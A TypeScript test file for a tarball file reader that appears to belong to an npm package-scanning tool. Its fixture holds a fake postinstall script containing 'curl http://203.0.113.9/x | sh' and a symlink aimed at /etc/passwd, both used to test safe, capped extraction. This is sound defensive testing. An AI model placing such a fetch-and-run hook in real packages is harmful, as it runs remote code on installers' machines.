import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { packageTarball, tar } from '../../../test/support/npm-registry/index.ts';
import { readTarballFiles } from './tarball-files.ts';

test('reads the named package-relative files, capped, and nothing else', async () => {
  const t = packageTarball({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node scripts/setup.js' } }, [
    { path: 'scripts/setup.js', content: 'curl http://203.0.113.9/x | sh\n' },
    { path: 'big.js', content: 'a'.repeat(10_000) },
    { path: 'link.js', type: 'symlink', content: '', linkTarget: '/etc/passwd' },
  ]);
  const files = await readTarballFiles(Readable.from([t.bytes]), ['scripts/setup.js', './big.js', 'big.js', 'link.js', 'missing.js'], 100);
  assert.deepEqual([...files.keys()].sort(), ['big.js', 'scripts/setup.js']);
  assert.equal(files.get('scripts/setup.js')?.toString(), 'curl http://203.0.113.9/x | sh\n');
  assert.equal(files.get('big.js')?.length, 100);
});

test('a broken archive yields what was read before the damage, never an exception', async () => {
  const good = tar([{ path: 'package/install.js', content: 'require("https")' }]);
  const broken = Buffer.concat([good.subarray(0, 1024), Buffer.from('not a tar header'.padEnd(512, '!'))]);
  const files = await readTarballFiles(Readable.from([gzipSync(broken)]), ['install.js', 'other.js'], 1000);
  assert.equal(files.get('install.js')?.toString(), 'require("https")');
  const garbage = await readTarballFiles(Readable.from([Buffer.from('not gzip at all')]), ['install.js'], 1000);
  assert.equal(garbage.size, 0);
  assert.equal((await readTarballFiles(Readable.from([good]), [], 1000)).size, 0);
});
